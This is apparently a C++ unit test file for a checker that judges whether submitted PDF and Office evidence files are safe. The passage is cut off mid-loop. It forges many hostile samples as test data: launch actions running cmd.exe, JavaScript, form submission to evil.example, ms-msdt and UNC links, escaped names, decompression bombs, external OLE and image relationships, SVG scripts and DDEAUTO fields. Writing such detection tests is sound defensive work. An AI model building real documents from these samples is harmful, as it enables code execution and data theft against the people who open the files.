// SPDX-License-Identifier: MIT
#define BOOST_TEST_MODULE evidence_safety
#include "packages/submission/evidence_safety.hpp"
#include "packages/submission/markup_scan.hpp"
#include "packages/submission/unsafe.hpp"
#include "tests/support/forge_evidence.hpp"
#include "tests/support/temp_folder.hpp"
#include "validator/base/file_types.hpp"

#include <boost/test/data/monomorphic.hpp>
#include <boost/test/data/test_case.hpp>
#include <boost/test/unit_test.hpp>

#include <fstream>
#include <set>
#include <zlib.h>

using namespace km;
using namespace km::submission;
using namespace km::test;
namespace bdata = boost::unit_test::data;

namespace {

using namespace std::string_literals;

struct Sample {
    std::string what, name, bytes, code;
    friend std::ostream& operator<<(std::ostream& out, const Sample& each)
    {
        return out << each.name << ": " << each.what;
    }
};
using Samples = std::vector<Sample>;

std::string judged(const std::string& bytes, const std::string& name)
{
    const auto found = judge_evidence_bytes(bytes, name);
    return !found ? found.error().code : found->way == SafeEvidence::Way::viewer ? "opened" : "shown";
}

std::string flate(const std::string& text)
{
    std::string out(compressBound(text.size()), '\0');
    auto size = static_cast<uLongf>(out.size());
    compress2(reinterpret_cast<Bytef*>(out.data()), &size, reinterpret_cast<const Bytef*>(text.data()),
              text.size(), 1);
    out.resize(size);
    return out;
}

std::string link_with(const std::string& action)
{
    return "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A" + action + ">>]";
}

// ---- PDF

Samples make_dangerous_pdfs()
{
    Samples all;
    const auto add = [&](const std::string& what, const std::string& bytes, const std::string& code) {
        all.push_back({what, "plan.pdf", bytes, code});
    };
    const auto both = [&](const std::string& what, const std::string& catalogue, const std::string& page,
                          const std::vector<std::string>& more, const std::string& code) {
        add(what, one_page(catalogue, page, more), code);
        add(what + ", hidden in an object stream", one_page(catalogue, page, more, Packing::hidden), code);
    };
    const std::vector<std::pair<std::string, std::string>> actions{
        {"/S/JavaScript/JS(app.alert\\(1\\))", "unsafe.script"},
        {"/S/JavaScript", "unsafe.script"},
        {"/S/Launch/F(calc.exe)", "unsafe.program"},
        {"/S/Launch/Win<</F(cmd.exe)/P(/c calc)>>", "unsafe.program"},
        {"/S/GoToR/F(other.pdf)/D[0/Fit]", "unsafe.outside"},
        {"/S/GoToE/T<</R/C/N(a.pdf)>>", "unsafe.embedded"},
        {"/S/SubmitForm/F<</FS/URL/F(http://evil.example)>>", "unsafe.sends"},
        {"/S/ImportData/F(data.fdf)", "unsafe.sends"},
        {"/S/Rendition/OP 0", "unsafe.media"},
        {"/S/Movie/T(film)", "unsafe.media"},
        {"/S/Sound/Sound 9 0 R", "unsafe.media"},
        {"/S/RichMediaExecute", "unsafe.media"},
        {"/S/GoTo3DView/V 0", "unsafe.media"},
        {"/S/SomethingNew", "unsafe.unknown_part"},
        {"/S/Named/N/Print", "unsafe.unknown_part"},
        {"/S/Named/N/Close", "unsafe.unknown_part"},
        {"/S/Thread/F(other.pdf)/D 0", "unsafe.outside"},
        {"/S/URI/URI(javascript:alert\\(1\\))", "unsafe.link"},
        {"/S/URI/URI(JaVa\\011Script:alert\\(1\\))", "unsafe.link"},
        {"/S/URI/URI(ms-msdt:/id PCWDiagnostic)", "unsafe.link"},
        {"/S/URI/URI(file://server/share/a.exe)", "unsafe.link"},
        {"/S/URI/URI(\\\\\\\\server\\\\share\\\\a.exe)", "unsafe.link"},
        {"/S/URI/URI(search-ms:query=x)", "unsafe.link"},
        {"/S/URI/URI(data:text/html,<p>)", "unsafe.link"},
    };
    for (const auto& [action, code] : actions) {
        both("a link with " + action, {}, link_with("<<" + action + ">>"), {}, code);
        both("after another action, " + action, {},
             link_with("<</S/GoTo/D[3 0 R/Fit]/Next<<" + action + ">>>>"), {}, code);
        both("an action of its own object, " + action, {}, {}, {"<</Type/Action" + action + ">>"}, code);
        // Opening has a word of its own, where the action has not.
        const bool known = code != "unsafe.unknown_part" && code != "unsafe.link";
        (void)known;
        add("on opening, hidden, " + action,
            one_page("/OpenAction<<" + action + ">>", {}, {}, Packing::hidden), "unsafe.opening");
    }
    both("several actions after another", {},
         link_with("<</S/GoTo/D[3 0 R/Fit]/Next[<</S/GoTo/D[3 0 R/Fit]>><</S/Launch/F(a)>>]>>"), {},
         "unsafe.program");
    both("a web page on opening", "/OpenAction<</S/URI/URI(https://example.org)>>", {}, {}, "unsafe.opening");
    both("a page, and then something",
         "/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://example.org)>>>>", {}, {},
         "unsafe.opening");
    both("an action on opening by reference", "/OpenAction 4 0 R", {}, {"<</S/Hide/T(a)>>"},
         "unsafe.opening");
    both("a legacy link", {}, "/Annots[<</Subtype/Link/Rect[0 0 9 9]/PA<</S/URI/URI(ms-word:ofe)>>>>]", {},
         "unsafe.link");
    both("an action of a bookmark", "/Outlines 4 0 R", {},
         {"<</Type/Outlines/First 5 0 R>>", "<</Title(a)/A<</S/Launch/F(a)>>>>"}, "unsafe.program");
    both("actions of a page", {}, "/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>", {}, "unsafe.opening");
    both("actions of the document", "/AA<</WC<</S/GoTo/D[3 0 R/Fit]>>>>", {}, {}, "unsafe.opening");
    both("actions of a field", "/AcroForm<</Fields[4 0 R]>>", {}, {"<</FT/Tx/T(a)/AA<</K<</S/Hide>>>>>>"},
         "unsafe.opening");
    both("scripts by name", "/Names<</JavaScript<</Names[(a) 4 0 R]>>>>", {}, {"<</S/GoTo>>"},
         "unsafe.script");
    both("a script alone", {}, {}, {"<</JS(app.alert\\(1\\))>>"}, "unsafe.script");
    both("a demand for scripts", "/Requirements[<</Type/Requirement/S/EnableJavaScripts>>]", {}, {},
         "unsafe.script");
    both("attached files by name", "/Names<</EmbeddedFiles<</Names[]>>>>", {}, {}, "unsafe.embedded");
    both("an attached file", "/AF[4 0 R]", {}, {"<</Type/Filespec/F(a.exe)/EF<</F 9 0 R>>>>"},
         "unsafe.embedded");
    add("the content of an attached file", one_page({}, {}, {stream("/Type/EmbeddedFile", "MZ")}),
        "unsafe.embedded");
    both("a portfolio", "/Collection<</View/D>>", {}, {}, "unsafe.embedded");
    both("a form that is a program", "/AcroForm<</Fields[]/XFA[(a) 4 0 R]>>", {}, {"null"},
         "unsafe.dynamic_form");
    both("a form to be rendered", "/NeedsRendering true", {}, {}, "unsafe.dynamic_form");
    for (const std::string kind : {"Movie", "Sound", "Screen", "RichMedia", "3D"}) {
        both("an annotation of kind " + kind, {}, "/Annots[<</Subtype/" + kind + "/Rect[0 0 9 9]>>]", {},
             "unsafe.media");
    }
    for (const std::string kind : {"U3D", "PRC"}) {
        add("a model, " + kind, one_page({}, {}, {stream("/Subtype/" + kind, "x")}), "unsafe.media");
    }
    both("a rendition", {}, {}, {"<</Type/Rendition/S/MR>>"}, "unsafe.media");
    both("a film", {}, {}, {"<</Movie<</F(a.avi)>>>>"}, "unsafe.media");
    both("content of rich media", {}, {}, {"<</RichMediaContent<<>>>>"}, "unsafe.media");
    both("settings of rich media", {}, {}, {"<</RichMediaSettings<<>>>>"}, "unsafe.media");
    both("a pinned file", {}, "/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]>>]", {}, "unsafe.embedded");
    both("an annotation that nobody knows", {}, "/Annots[<</Subtype/Hologram/Rect[0 0 9 9]>>]", {},
         "unsafe.unknown_part");
    both("an annotation that nobody knows, by reference", {}, "/Annots 4 0 R",
         {"[5 0 R]", "<</Subtype/Hologram>>"}, "unsafe.unknown_part");
    add("content that lies elsewhere",
        one_page({}, "/Contents 4 0 R", {stream("/F(http://evil.example/a)", {})}), "unsafe.outside");
    add("a page out of another file",
        one_page({}, {}, {stream("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(a.pdf)/Page 0>>", {})}),
        "unsafe.outside");
    both("a picture for the printer", {}, {}, {"<</OPI<</2.0<</F(a)>>>>>>"}, "unsafe.outside");
    // Names with escapes (7.3.5): plain, so that qpdf or the look at the bytes has to decode them.
    add("/J#61vaScript", one_page({}, link_with("<</S/J#61vaScript/#4a#53(1)>>")), "unsafe.script");
    add("/#4c#61#75#6e#63#68", one_page({}, link_with("<</S/#4c#61#75#6e#63#68/F(a)>>")), "unsafe.program");
    add("/Open#41ction", one_page("/Open#41ction<</S/URI/URI(https://example.org)>>"), "unsafe.opening");
    add("/#41A", one_page({}, "/#41A<</O<<>>>>"), "unsafe.opening");
    add("/Su#62mitForm", one_page({}, link_with("<</S/Su#62mitForm>>")), "unsafe.sends");
    add("/E#46", one_page({}, {}, {"<</E#46<<>>>>"}), "unsafe.embedded");
    // Objects that no table lists: a viewer that repairs would find them.
    for (const auto& [name, code] :
         std::vector<std::pair<std::string, std::string>>{{"/Launch", "unsafe.program"},
                                                          {"/JavaScript", "unsafe.script"},
                                                          {"/GoToR", "unsafe.outside"},
                                                          {"/GoToE", "unsafe.embedded"},
                                                          {"/SubmitForm", "unsafe.sends"},
                                                          {"/ImportData", "unsafe.sends"},
                                                          {"/RichMedia", "unsafe.media"},
                                                          {"/EmbeddedFile", "unsafe.embedded"},
                                                          {"/EmbeddedFiles", "unsafe.embedded"},
                                                          {"/L#61unch", "unsafe.program"}}) {
        auto bytes = one_page({});
        bytes.insert(bytes.find("xref\n"), "99 0 obj\n<</S" + name + ">>\nendobj\n");
        const auto at = bytes.find("startxref\n") + 10;
        bytes.replace(at, bytes.find('\n', at) - at, std::to_string(bytes.find("xref\n0 ")));
        add("an object that no table lists: " + name, bytes, code);
    }
    // What some programs take for an action, an annotation or a link, though the format has it otherwise.
    both("a word where a name should be", {}, link_with("<</S(Launch)/F(calc.exe)>>"), {}, "unsafe.program");
    both("a link by a word", {}, link_with("<</S(URI)/URI(ms-msdt:/id)>>"), {}, "unsafe.link");
    both("a name where a link should be", {}, link_with("<</S/URI/URI/ms-msdt:x>>"), {}, "unsafe.link");
    both("an annotation by a word", {}, "/Annots[<</Subtype(Screen)/Rect[0 0 9 9]>>]", {}, "unsafe.media");
    add("an action that is a stream",
        one_page({}, link_with(" 4 0 R"), {stream("/S/URI/URI(ms-msdt:/id)", {})}), "unsafe.link");
    add("an annotation that is a stream",
        one_page({}, "/Annots[4 0 R]", {stream("/Subtype/Hologram/Rect[0 0 9 9]", {})}),
        "unsafe.unknown_part");
    both("an action among what it opens with", "/OpenAction[<</S/URI/URI(https://example.org)>>]", {}, {},
         "unsafe.opening");
    both("links that begin elsewhere", "/URI<</Base(ms-msdt:)>>", link_with("<</S/URI/URI(x)>>"), {},
         "unsafe.link");
    both("actions of a presentation", {}, "/PresSteps<</Type/NavNode/NA<</S/URI/URI(https://a.example)>>>>",
         {}, "unsafe.opening");
    both("renditions by name", "/Names<</Renditions<</Names[(a)<</S/MR>>]>>>>", {}, {}, "unsafe.media");
    both("another presentation", "/Names<</AlternatePresentations<</Names[]>>>>", {}, {}, "unsafe.media");
    add("a program for the printer", one_page({}, {}, {stream("/Type/XObject/Subtype/PS", "(x) run")}),
        "unsafe.script");
    both("colours that lie elsewhere", "/OutputIntents[<</S/GTS_PDFX/DestOutputProfileRef<</URLs[4 0 R]>>>>]",
         {}, {"(http://evil.example)"}, "unsafe.outside");
    both("a file on the web", {}, {}, {"<</Type/Filespec/FS/URL/F(http://evil.example/a)>>"},
         "unsafe.outside");
    both("a file on the web, by a word", {}, {}, {"<</FS(URL)/F(http://evil.example/a)>>"}, "unsafe.outside");
    // Scripts beside an empty one
    for (const std::string tree :
         {"<</Names[(a)<</S/JavaScript/JS()>>(b)<</S/JavaScript/JS(app.alert\\(1\\))>>]>>",
          "<</Names[(a)<</S/JavaScript/JS 4 0 R>>]>>", "<</Names[(a)<</S/JavaScript/JS( )>>]>>",
          "<</Names[(a)<</S/JavaScript>>]>>", "<</Names[(a)<</S/GoTo/D[3 0 R/Fit]>>]>>",
          "<</Names[(a)<</S/JavaScript/JS()/Next<</S/GoTo>>>>]>>", "<</Kids[<</Names[(a) 4 0 R]>>]>>",
          "<</Names[]/Kids[<</Names[(a)<</S/GoTo/D[3 0 R/Fit]>>]>>]>>", "<</Names[(a)(b)]>>", "[]", "(a)"}) {
        both("scripts by name, one of them empty: " + tree, "/Names<</JavaScript" + tree + ">>", {},
             {"(app.alert\\(1\\))"}, "unsafe.script");
    }
    both("an empty script on opening", "/OpenAction<</S/JavaScript/JS()>>", {}, {}, "unsafe.opening");
    add(
        "scripts by name that the table leaves out",
        [] {
            auto bytes = one_page("/Names<</JavaScript 9 0 R>>");
            bytes.insert(bytes.find("xref\n"),
                         "9 0 obj\n<</Names[(a)<</S/JavaScript 8 0 R/JS(app.alert\\(1\\))"
                         ">>]>>\nendobj\n");
            const auto at = bytes.find("startxref\n") + 10;
            return bytes.replace(at, bytes.find('\n', at) - at, std::to_string(bytes.find("xref\n0 ")));
        }(),
        "unsafe.script");
    both("links said twice", {}, link_with("<</S/GoTo/D[3 0 R/Fit]>>") + "/Annots[]", {}, "unsafe.damaged");
    both("a name with a dot said twice", {}, {}, {"<</o.A 3 0 R/o.A[]>>"}, "unsafe.damaged");
    both("no heading said twice", {}, {}, {"<</h.A 3 0 R/h.A[]>>"}, "unsafe.damaged");
    both("a heading said twice, and something else", {}, {}, {"<</h.a1 3 0 R/h.a1[]/D 1/D 2>>"},
         "unsafe.damaged");
    // Later versions in the file, and tables of two kinds
    const auto more_at_the_end = [](const std::string& object, const std::string& trailer) {
        auto bytes = one_page({}, "/Annots 4 0 R", {"[]"});
        const auto before = std::to_string(bytes.rfind("xref\n0 "));
        const auto at = std::to_string(bytes.size());
        bytes += object + "\nendobj\n";
        const auto table = std::to_string(bytes.size());
        const auto number = object.substr(0, object.find(' '));
        return bytes + "xref\n" + number + " 1\n" + std::string(10 - at.size(), '0') + at +
               " 00000 n \ntrailer\n<</Root 1 0 R/Size 5/Prev " + before + trailer + ">>\nstartxref\n" +
               table + "\n%%EOF\n";
    };
    add("an action on opening in a later version",
        more_at_the_end("1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(https://a.example)>>>>",
                        {}),
        "unsafe.opening");
    add("a link in a later version",
        more_at_the_end("4 0 obj\n[<</Subtype/Link/A<</S/URI/URI(ms-msdt:x)>>>>]", {}), "unsafe.link");
    add(
        "a link that only the second table lists",
        [] {
            auto bytes = one_page({}, "/Annots 4 0 R");
            auto table = bytes.rfind("xref\n0 ");
            const auto object = "4 0 obj\n[<</Subtype/Link/A<</S/URI/URI(ms-msdt:x)>>>>]\nendobj\n"s;
            const auto be = [](std::size_t value) {
                return std::string{static_cast<char>(value >> 8U), static_cast<char>(value & 0xFFU)};
            };
            const auto second = "5 0 obj\n" +
                                stream("/Type/XRef/W[1 2 1]/Index[4 2]/Root 1 0 R/Size 6",
                                       "\1" + be(table) + "\0\1"s + be(table + object.size()) + "\0"s) +
                                "\nendobj\n";
            bytes.insert(table, object + second);
            const auto hybrid = "/XRefStm " + std::to_string(table + object.size());
            bytes.insert(bytes.rfind(">>\nstartxref"), hybrid);
            table += object.size() + second.size();
            const auto at = bytes.rfind("startxref\n") + 10;
            return bytes.replace(at, bytes.find('\n', at) - at, std::to_string(table));
        }(),
        "unsafe.link");
    // Ends
    add("a byte before the header", " " + one_page({}), "unsafe.other_content");
    add("a page before the header", "<html><script>x</script>" + one_page({}), "unsafe.other_content");
    add("no header", "a plan", "unsafe.other_content");
    add("no end", one_page({}).substr(0, 200), "unsafe.damaged");
    add("a zip behind", one_page({}) + forge(ForgedZip{}), "unsafe.two_files");
    add("a page behind", one_page({}) + "<script>x</script>", "unsafe.two_files");
    add(
        "a table that is not where it should be",
        [] {
            auto bytes = one_page({});
            const auto at = bytes.find("startxref\n") + 10;
            return bytes.replace(at, bytes.find('\n', at) - at, "12");
        }(),
        "unsafe.damaged");
    add(
        "an object that is not where the table says",
        [] {
            auto bytes = one_page({});
            return bytes.replace(bytes.find("3 0 obj"), 7, "8 0 obj");
        }(),
        "unsafe.damaged");
    add("a key said twice, one of them an action", one_page({}, link_with("<</S/Hide/S/GoTo/D[3 0 R/Fit]>>")),
        "unsafe.damaged");
    add("encrypted",
        forge_pdf({"<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 0>>"}, Packing::plain,
                  "/Encrypt<</Filter/Standard/V 1/R 2/O<" + std::string(64, '0') + ">/U<" +
                      std::string(64, '0') + ">/P -4>>/ID[<00><00>]"),
        "unsafe.encrypted");
    // Bombs
    add(
        "an object stream of 10 MiB",
        [] {
            auto bytes = one_page({}, {}, {}, Packing::hidden);
            const auto begin = bytes.find("4 0 obj"), end = bytes.find("5 0 obj");
            const auto packed = flate("1 0 2 40 3 80 " + std::string(std::size_t{10} << 20U, ' '));
            const auto table_at = begin + 8; // too short is enough: it is found by the entry of object 4
            (void)table_at;
            const auto object =
                "4 0 obj\n" + stream("/Type/ObjStm/N 3/First 14/Filter/FlateDecode", packed) + "\nendobj\n";
            bytes.replace(begin, end - begin, object);
            const auto moved = begin + object.size();
            const auto at = bytes.rfind("startxref\n") + 10;
            bytes.replace(at, bytes.find('\n', at) - at, std::to_string(moved));
            return bytes;
        }(),
        "unsafe.complex");
    add(
        "a table of 10 MiB",
        [] {
            std::string file = "%PDF-1.7\n";
            const auto at = std::to_string(file.size());
            file += "1 0 obj\n" +
                    stream("/Type/XRef/W[1 4 2]/Root 1 0 R/Size 9000000/Filter/FlateDecode",
                           flate(std::string(std::size_t{10} << 20U, '\1'))) +
                    "\nendobj\nstartxref\n" + at + "\n%%EOF\n";
            return file;
        }(),
        "unsafe.complex");
    add(
        "a table packed twice",
        [] {
            std::string file = "%PDF-1.7\n";
            const auto at = std::to_string(file.size());
            return file + "1 0 obj\n" +
                   stream("/Type/XRef/W[1 4 2]/Root 1 0 R/Size 9/Filter[/FlateDecode/RunLengthDecode]",
                          flate("\x81"
                                "a")) +
                   "\nendobj\nstartxref\n" + at + "\n%%EOF\n";
        }(),
        "unsafe.damaged");
    add(
        "a table packed by LZW",
        [] {
            std::string file = "%PDF-1.7\n";
            const auto at = std::to_string(file.size());
            return file + "1 0 obj\n" +
                   stream("/Type/XRef/W[1 4 2]/Root 1 0 R/Size 9/Filter/LZWDecode",
                          "\x80\x0B\x60\x50\x22\x0C\x0C\x85\x01") +
                   "\nendobj\nstartxref\n" + at + "\n%%EOF\n";
        }(),
        "unsafe.damaged");
    add("lists in lists, 200 deep", one_page({}, "/X" + std::string(200, '[') + std::string(200, ']')),
        "unsafe.complex");
    add("lists in lists, 5,000 deep", one_page({}, "/X" + std::string(5000, '[') + std::string(5000, ']')),
        "unsafe.damaged");
    add("10 MiB of numbers",
        one_page(
            {}, "/X[" +
                    [] {
                        std::string numbers;
                        for (int i = 0; i < (5 << 20); ++i) {
                            numbers += "1 ";
                        }
                        return numbers;
                    }() +
                    "]"),
        "unsafe.complex");
    return all;
}

Samples make_harmless_pdfs()
{
    Samples all;
    const auto add = [&](const std::string& what, const std::string& bytes) {
        all.push_back({what, "plan.pdf", bytes, "opened"});
    };
    for (const auto packing : {Packing::plain, Packing::hidden}) {
        add("a page", one_page({}, {}, {}, packing));
        add("a link to a web page",
            one_page({}, link_with("<</S/URI/URI(https://example.org/?a=1)>>"), {}, packing));
        add("a link to write to somebody",
            one_page({}, link_with("<</S/URI/URI(mailto:a@example.org)>>"), {}, packing));
        add("a link beside the document",
            one_page({}, link_with("<</S/URI/URI(www.example.org)>>"), {}, packing));
        add("bookmarks",
            one_page("/Outlines 4 0 R", {},
                     {"<</Type/Outlines/First 5 0 R>>", "<</Title(a)/A<</S/GoTo/D[3 0 R/Fit]>>>>"}, packing));
        add("a link to the next page", one_page({}, link_with("<</S/Named/N/NextPage>>"), {}, packing));
        add("where it opens", one_page("/OpenAction[3 0 R/Fit]", {}, {}, packing));
        add("where it opens, as an action", one_page("/OpenAction<</S/GoTo/D[3 0 R/Fit]>>", {}, {}, packing));
        add("a form that stays here", one_page("/AcroForm<</Fields[4 0 R]>>", "/Annots[4 0 R]",
                                               {"<</Subtype/Widget/FT/Tx/T(name)/Rect[0 0 9 9]>>"}, packing));
        add("notes",
            one_page(
                {},
                "/Annots[<</Subtype/Text/Rect[0 0 9 9]/Contents(hello)>><</Subtype/Popup/Rect[0 0 9 9]>>]",
                {}, packing));
        add("attributes of the structure",
            one_page({}, {}, {"<</Type/StructElem/S/Table/A[<</O/Table/ColSpan 2>>]>>"}, packing));
        add("a type said twice", one_page({}, {}, {"<</Type/Font/Type/Font>>"}, packing));
        add("a heading said twice, as Google does",
            one_page("/Dests 4 0 R", {}, {"<</h.1fob9te[3 0 R/Fit]/h.1fob9te[3 0 R/Fit]>>"}, packing));
        add("scripts by name that are not there", one_page("/Names<</JavaScript 9 0 R>>", {}, {}, packing));
        add("an empty script, as FrameMaker writes it",
            one_page("/Names<</Dests 4 0 R/JavaScript 5 0 R>>", {},
                     {"<</Names[]>>", "<</Names[(FrameMaker)6 0 R]>>", "<</JS()/S/JavaScript>>"}, packing));
        add("an empty script, the other way round",
            one_page("/Names<</JavaScript 4 0 R>>", {},
                     {"<</Names[(FrameMaker)5 0 R]>>", "<</S /JavaScript /JS () >>"}, packing));
        add("an attribute of FrameMaker's structure",
            one_page({}, {}, {"<</Type/StructElem/S/Table/A<</O/Link/S/R>>>>"}, packing));
        add("a file beside, as a word processor notes it",
            one_page({}, {}, {"<</Type/Filespec/F(a.pdf)/UF(a.pdf)>>"}, packing));
        add("a web page that links begin with",
            one_page("/URI<</Base(https://example.org/)>>", link_with("<</S/URI/URI(a)>>"), {}, packing));
        add("a link in brackets",
            one_page({}, link_with("<</S/URI/URI((https://example.org/a))>>"), {}, packing));
    }
    add("a count of objects that is not right", [] {
        auto bytes = one_page({});
        const auto at = bytes.rfind("/Size 4");
        return bytes.replace(at, 7, "/Size 9");
    }());
    add("zeros behind the end", one_page({}) + std::string(20, '\0') + "\r\n");
    add("a table with PNG's predictor", [] {
        std::string file = "%PDF-1.7\n";
        std::string offsets;
        std::vector<std::size_t> at;
        for (const std::string body : {"<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 0>>"}) {
            at.push_back(file.size());
            file += std::to_string(at.size()) + " 0 obj\n" + body + "\nendobj\n";
        }
        at.push_back(file.size());
        std::string above(4, '\0'), rows;
        for (std::size_t i = 0; i <= at.size(); ++i) {
            std::string row = i == 0 ? "\0\0\0\0"s
                                     : "\1"s + static_cast<char>(at[i - 1] >> 8U) +
                                           static_cast<char>(at[i - 1] & 0xFFU) + '\0';
            rows += '\2'; // up
            for (std::size_t c = 0; c < 4; ++c) {
                rows += static_cast<char>(row[c] - above[c]);
            }
            above = row;
        }
        const auto start = std::to_string(file.size());
        return file + "3 0 obj\n" +
               stream("/Type/XRef/W[1 2 1]/Root 1 0 R/Size 4/Filter/FlateDecode/DecodeParms<</Predictor "
                      "12/Columns 4>>",
                      flate(rows)) +
               "\nendobj\nstartxref\n" + start + "\n%%EOF";
    }());
    return all;
}

// ---- Office

const std::string kBase = "application/vnd.openxmlformats-officedocument.";

Samples make_dangerous_office()
{
    Samples all;
    const auto add = [&](const std::string& what, const ForgedOffice& office, const std::string& code) {
        all.push_back({what, "plan." + office.kind, forge_office(office), code});
    };
    const auto part = [](const std::string& kind, const std::string& name, const std::string& type,
                         const std::string& content = "x") {
        ForgedOffice office{kind};
        office.types = of_type(name, type);
        office.parts = {{name, content}};
        return office;
    };
    const auto related = [](const std::string& kind, const std::string& elements) {
        ForgedOffice office{kind};
        office.relationships = elements;
        return office;
    };
    for (const std::string kind : {"docx", "xlsx", "pptx"}) {
        // Content types, whatever the part is called.
        add("macros", part(kind, "x/picture.png", "application/vnd.ms-office.vbaProject"), "unsafe.macros");
        add("an ActiveX control", part(kind, "x/a.xml", "application/vnd.ms-office.activeX+xml"),
            "unsafe.control");
        add("an OLE object", part(kind, "x/a.bin", kBase + "oleObject"), "unsafe.embedded");
        add("an embedded workbook with macros",
            part(kind, "x/a.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12"), "unsafe.macros");
        add("an embedded package", part(kind, "x/a.docx", kBase + "package"), "unsafe.embedded");
        add("a part nobody knows", part(kind, "x/a.dat", "application/x-something"), "unsafe.unknown_part");
        add(
            "a part without a type",
            [&] {
                ForgedOffice office{kind};
                office.parts = {{"x/a.dat", "x"}};
                return office;
            }(),
            "unsafe.unknown_part");
        add("a web extension", part(kind, "x/a.xml", "application/vnd.ms-office.webextension+xml"),
            "unsafe.control");
        add("a model", part(kind, "x/a.glb", "model/gltf.binary"), "unsafe.media");
        // Relationships
        add("macros by relationship",
            related(kind, relationship("http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                                       "a.png")),
            "unsafe.macros");
        add(
            "a menu of its own",
            [&] {
                ForgedOffice office{kind};
                office.root =
                    relationship("http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
                                 "customUI/a.xml");
                return office;
            }(),
            "unsafe.control");
        add("an OLE object by relationship", related(kind, relationship("oleObject", "media/a.png")),
            "unsafe.embedded");
        add("an OLE object elsewhere",
            related(kind, relationship("oleObject", "https://evil.example/a.hta", kExternal)),
            "unsafe.embedded");
        add("a picture that loads by itself",
            related(kind, relationship("image", "https://evil.example/a.png", kExternal)), "unsafe.outside");
        add("a picture in another computer's folder",
            related(kind, relationship("image", "\\\\server\\a.png", kExternal)), "unsafe.outside");
        add("a picture outside that says it is inside",
            related(kind, relationship("image", "https://evil.example/a.png")), "unsafe.outside");
        add("a picture on another computer that says it is inside",
            related(kind, relationship("image", "//server/a.png")), "unsafe.outside");
        add("a mode nobody knows",
            related(kind, relationship("image", "media/a.png", " TargetMode=\"external\"")),
            "unsafe.outside");
        add("a film elsewhere", related(kind, relationship("video", "https://evil.example/a.mp4", kExternal)),
            "unsafe.outside");
        add("a link that starts a program",
            related(kind, relationship("hyperlink", "ms-msdt:/id", kExternal)), "unsafe.link");
        add("a link to another computer's folder",
            related(kind, relationship("hyperlink", "file://server/share/a.lnk", kExternal)), "unsafe.link");
        add("a link with a script",
            related(kind, relationship("hyperlink", "java&#x9;script:alert(1)", kExternal)), "unsafe.link");
        add("a relationship nobody knows",
            related(kind, relationship("http://example.org/relationships/image", "a.png")),
            "unsafe.unknown_part");
        add("a relationship nobody knows, Microsoft's",
            related(kind,
                    relationship("http://schemas.microsoft.com/office/2030/relationships/new", "a.xml")),
            "unsafe.unknown_part");
        add("an embedded document outside a chart",
            related(kind, relationship("package", "embeddings/a.xlsx")), "unsafe.embedded");
        // Content
        add("OLE called a picture", part(kind, "x/a.png", "image/png", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"),
            "unsafe.embedded");
        add("a program called a font", part(kind, "x/a.ttf", "application/x-font-ttf", "MZ\x90"),
            "unsafe.embedded");
        add("a zip called a printer's settings",
            part(kind, "x/a.bin", kBase + "spreadsheetml.printerSettings", "PK\x03\x04"), "unsafe.embedded");
        add("rich text called a sound", part(kind, "x/a.wav", "audio/wav", "{\\rtf1"), "unsafe.embedded");
        add("a page called a picture", part(kind, "x/a.png", "image/png", "<html>"), "unsafe.embedded");
        add(
            "a zip in the trash",
            [&] {
                ForgedOffice office{kind};
                office.parts = {{"[trash]/0000.dat", "PK\x03\x04"}};
                return office;
            }(),
            "unsafe.embedded");
        add("a drawing with a script",
            part(kind, "x/a.svg", "image/svg+xml", "<svg><script>x</script></svg>"), "unsafe.script");
        add("a drawing with a handler", part(kind, "x/a.svg", "image/svg+xml", "<svg oNload='x'/>"),
            "unsafe.script");
        add("a drawing that loads a picture",
            part(kind, "x/a.svg", "image/svg+xml", "<svg><image xlink:href='https://evil.example/a'/></svg>"),
            "unsafe.outside");
        add("a drawing with a style from elsewhere",
            part(kind, "x/a.svg", "image/svg+xml",
                 "<svg><style>@import 'https://evil.example/a'</style></svg>"),
            "unsafe.outside");
        add("a drawing filled from elsewhere",
            part(kind, "x/a.svg", "image/svg+xml", "<svg fill='url(https://evil.example/a)'/>"),
            "unsafe.outside");
        for (const auto* drawing :
             {"<svg style='fill:url(#a);cursor:url(https://evil.example/a)'/>",
              "<svg style='cursor:u\\72l(https://evil.example/a)'/>",
              "<svg><style>.a{cursor:url( \"ftp://evil.example/a\")}</style></svg>",
              "<svg><style>@\\69mport 'https://evil.example/a'</style></svg>",
              "<svg><style>.a{cursor:image-set('https://evil.example/a' 1x)}</style></svg>",
              "<svg><image><set attributeName='xlink:href' to='https://e.example'/></image></svg>"}) {
            add(drawing, part(kind, "x/a.svg", "image/svg+xml", drawing), "unsafe.outside");
        }
        add("a drawing with a bad link",
            part(kind, "x/a.svg", "image/svg+xml", "<svg><a href='javascript:x'/></svg>"), "unsafe.link");
        add("a drawing with an entity",
            part(kind, "x/a.svg", "image/svg+xml", "<!DOCTYPE svg [<!ENTITY a 'b'>]><svg/>"),
            "unsafe.damaged");
        // Two readings of one element, or of one name
        const auto names_of_x = " xmlns:x=\"urn:x\" "s;
        add("a picture behind a name of another kind",
            related(kind,
                    "<Relationship Id=\"rId9\"" + names_of_x +
                        "x:Type=\"\" x:Target=\"media/a.png\" x:TargetMode=\"Internal\" "
                        "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" "
                        "Target=\"https://evil.example/a.png\" TargetMode=\"External\"/>"),
            "unsafe.damaged");
        add("a program behind a name of another kind",
            part(kind, "x/a.xml", "application/xml",
                 "<a:hlinkClick x:action='ppaction://noaction' action='ppaction://program'/>"),
            "unsafe.damaged");
        add("a field behind a name of another kind",
            part(kind, "x/a.xml", "application/xml", "<w:fldSimple x:instr='PAGE' w:instr='DDEAUTO a b'/>"),
            "unsafe.damaged");
        add("a field's beginning behind a name of another kind",
            part(kind, "x/a.xml", "application/xml",
                 "<w:fldChar x:fldCharType='end' w:fldCharType='begin'/><w:instrText>DDE a</w:instrText>"),
            "unsafe.damaged");
        for (const std::string element :
